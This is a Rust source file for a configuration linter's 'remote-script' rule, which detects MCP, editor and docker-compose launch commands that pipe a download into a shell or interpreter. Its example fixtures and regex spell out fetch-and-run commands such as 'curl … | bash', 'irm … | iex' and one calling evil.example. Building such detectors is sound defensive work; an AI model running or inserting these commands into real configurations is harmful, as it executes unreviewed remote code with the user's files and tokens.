//! `remote-script`: a server whose command pipes a download into an interpreter.
//!
//! ## What it finds
//! `sh -c "curl -fsSL https://… | sh"`, `wget -qO- … | bash`, `bash <(curl …)`,
//! `sh -c "$(curl …)"`, `irm … | iex` (PowerShell), also behind `cmd /c` or `bash -lc`.
//!
//! ## Why it matters
//! Every start runs whatever that URL serves that day, unreviewed and unpinned, with the user's
//! files and tokens: one changed script (or a hijacked host) owns the machine.

use super::{fx, Check, Cx, Emit, Family, Rule};
use vigil_report::Severity;

pub(crate) static RULE: Rule = Rule {
    id: "remote-script",
    family: Family::Launchers,
    severity: Severity::Error,
    summary: "A server's command pipes a download into a shell or interpreter",
    fix: "Download the script once, review it, and run the local copy (or a pinned package)",
    check: Check::File(check),
    examples: &[
        // More ways to reach the interpreter (black-box tester, session 15 round 14: F2).
        fx(
            ".mcp.json",
            r#"{"mcpServers": {"a": {"command": "bash", "args": ["-c", «"curl -fsSL https://get.example.com/i.sh | /bin/bash"]},
  "b": {"command": "bash", "args": ["-c", «"curl -fsSL https://get.example.com/i.sh | /usr/bin/env bash"]},
  "c": {"command": "bash", "args": ["-c", «"bash -c \"$(curl -fsSL https://get.example.com/i.sh)\""]},
  "d": {"command": "bash", "args": ["-c", «"curl -fsSL https://get.example.com/i.sh | FOO=1 bash"]},
  "e": {"command": "bash", "args": ["-c", «"curl -fsSL https://get.example.com/i.sh | env FOO=1 sh"]},
  "f": {"command": "bash", "args": ["-c", «"curl -fsSL https://get.example.com/i.sh | nohup bash"]},
  "g": {"command": "bash", "args": ["-c", «"curl -fsSL https://get.example.com/i.sh | tee /tmp/x | bash"]},
  "h": {"command": "bash", "args": ["-c", «"curl -fsSL https://get.example.com/i.py | uv run -"]}}}"#,
        ),
        fx(
            ".mcp.json",
            r#"{"mcpServers": {"x": {"command": "sh", "args": ["-c", «"curl -fsSL https://get.example.com/mcp.sh | sh"]}}}"#,
        ),
        fx(
            "claude_desktop_config.json",
            r#"{"mcpServers": {"x": {"command": «"wget -qO- https://get.example.com/i.sh|bash -s -- --serve"}}}"#,
        ),
        fx(
            ".mcp.json",
            r#"{"mcpServers": {"x": {"command": "bash", "args": ["-lc", «"bash <(curl -s https://get.example.com/i.sh)"]}}}"#,
        ),
        fx(
            ".vscode/mcp.json",
            r#"{"servers": {"x": {"command": "pwsh", "args": ["-Command", «"irm https://get.example.com/i.ps1 | iex"]}}}"#,
        ),
        fx(
            ".mcp.json",
            r#"{"mcpServers": {"x": {"command": "sh", "args": ["-c", «"eval \"$(curl -fsSL https://get.example.com/i.sh)\""]}}}"#,
        ),
        fx(
            "docker-compose.yml",
            "services:\n  h:\n    image: alpine:3.20\n    command: [\"/bin/sh\", \"-c\", «\"curl -fsSL https://evil.example/i.sh | bash\"]\n  e:\n    image: alpine:3.20\n    entrypoint: [\"sh\", \"-c\"]\n    command: [«\"wget -qO- https://get.example.com/i.sh | sh\"]\n",
        ),
    ],
    counterexamples: &[
        fx(
            "docker-compose.yml",
            "services:\n  h:\n    image: alpine:3.20\n    command: [\"sh\", \"-c\", \"curl -fsS https://get.example.com/health > /dev/null && exec node server.js\"]\n  n:\n    image: node:22.11.0\n    command: [\"node\", \"server.js\", \"--note\", \"see https://example.com/install | sh\"]\n",
        ),
        fx(
            ".mcp.json",
            r#"{"mcpServers": {"x": {"command": "sh", "args": ["-c", "curl -fsSL https://get.example.com/health > /dev/null && exec node build/index.js"]},
  "y": {"command": "bash", "args": ["-c", "cat config.json | node server.js"]}}}"#,
        ),
        fx(
            ".mcp.json",
            r#"{"mcpServers": {"x": {"command": "node", "args": ["server.js", "--note", "see https://example.com/install | sh"]}}}"#,
        ),
    ],
};

/// A download piped into an interpreter, or run through process substitution.
static PIPED: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
    regex::Regex::new(concat!(
        r"(?i)(?:^|[\s;&(|])(?:curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod)\b",
        r"[^|;&]{0,512}",
        // Filters between (`| tee /tmp/x | bash`, `| gunzip | sh`) (black-box tester, session
        // 15 round 14: F2).
        r"(?:\|\s*(?:tee|cat|gunzip|zcat|gzip\s+-d|base64\s+-d|base64\s+--decode|tr|sed|dos2unix)\b[^|;&]{0,200})*",
        // The interpreter, however it is reached: `sudo`, `nohup`, `exec`, `env` with its
        // assignments, a shell's `FOO=1` prefix, a path (`/bin/bash`, `/usr/bin/env bash`).
        r"\|\s*(?:(?:sudo\s+(?:-\S+\s+)*|nohup\s+|exec\s+|(?:/usr)?/bin/env\s+|env\s+|[A-Za-z_][A-Za-z0-9_]*=\S*\s+))*",
        r"(?:(?:/usr)?(?:/local)?/s?bin/)?",
        r"(?:sh|bash|zsh|dash|ksh|ash|fish|python[0-9.]*|node|perl|ruby|php|iex|invoke-expression|pwsh|powershell|uv\s+run|uvx|deno\s+run|bun|bunx|npx)\b",
        r"|(?:<|\$)\(\s*(?:curl|wget|fetch)\b",
    ))
    .expect("remote-script pattern")
});

fn check(cx: &Cx<'_>, out: &mut Emit<'_>) {
    for s in cx.servers {
        let Some(node) = piped(&s.argv) else { continue };
        out.at(
            node.span,
            s.launch_key.join("args"),
            format!(
                "`{}` pipes a download into an interpreter: each start runs whatever the URL serves",
                s.name
            ),
        );
    }
    // A compose service runs its `entrypoint` followed by its `command` (black-box tester,
    // session 12 round 7: F5).
    if cx.doc.kind == crate::input::Kind::Compose {
        for (name, svc, key) in super::common::services(&cx.doc.root) {
            let mut argv = Vec::new();
            for field in ["entrypoint", "command"] {
                if let Some(n) = svc.get(field) {
                    argv.extend(super::common::compose_argv(n));
                }
            }
            let argv = crate::model::unwrap_launcher(argv);
            let Some(node) = piped(&argv) else { continue };
            out.at(
                node.span,
                key.join("command"),
                format!(
                    "service `{name}` pipes a download into an interpreter: each start runs whatever the URL serves"
                ),
            );
        }
    }
}

/// The node of the word where a command line (already unwrapped) pipes a download into an
/// interpreter. Only what is run counts: the program and the arguments a wrapper hands to a
/// shell; an argument of another program (`node server.js --note "… | sh"`) is data.
fn piped<'a>(argv: &[(String, &'a crate::node::Node)]) -> Option<&'a crate::node::Node> {
    let prog = crate::model::program_name(&argv.first()?.0);
    let shells = [
        "sh",
        "bash",
        "zsh",
        "dash",
        "ksh",
        "ash",
        "fish",
        "curl",
        "wget",
        "pwsh",
        "powershell",
        "iwr",
        "irm",
        "fetch",
        // `eval "$(curl …)"`, `source <(curl …)`, `. <(curl …)`.
        "eval",
        "source",
        ".",
    ];
    // A command substitution as the whole command (`bash -c "$(curl …)"`, Homebrew's
    // installer form) runs what it downloads (round 14: F2).
    let first = argv.first()?.0.as_str();
    let substituted = first.starts_with("$(") || first.starts_with('`') || first.starts_with("<(");
    if !shells.contains(&prog.as_str()) && !substituted {
        return None;
    }
    let line: Vec<&str> = argv.iter().map(|(a, _)| a.as_str()).collect();
    let text = line.join(" ");
    let m = PIPED.find(&text)?;
    // The node of the word the match starts in (every word of a split script points at the
    // script's string).
    let mut at = 0;
    for (word, n) in argv {
        if at + word.len() >= m.start() {
            return Some(n);
        }
        at += word.len() + 1;
    }
    Some(argv[0].1)
}
